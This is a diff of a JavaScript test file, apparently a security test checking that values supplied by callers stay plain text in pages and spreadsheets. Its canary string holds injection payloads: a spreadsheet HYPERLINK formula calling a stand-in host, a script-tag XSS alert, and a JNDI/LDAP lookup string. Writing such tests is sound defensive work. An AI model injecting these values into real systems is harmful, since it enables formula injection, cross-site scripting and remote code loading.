@@ -151,7 +151,7 @@ test('pages stay as they are while calls are added, and nobody is listed twice',
 
 test('T59: what callers wrote is text everywhere, and no formula in a sheet', async () => {
   const canary = '=HYPERLINK("https://evil.example?x=1"),<script>alert(1)</script>'
-  const externalId = `${canary}\r\n${'$'}{jndi:ldap://x}`
+  const externalId = [canary, '$', '{jndi:ldap://x}'].join('\r\n')
   const enrolled = await play('svc.enroll', { ...images('Fay'), externalId })
   const { subjectId } = enrolled.envelope.data.results[0].value
   const project = `/projects/${desk.projectId}`
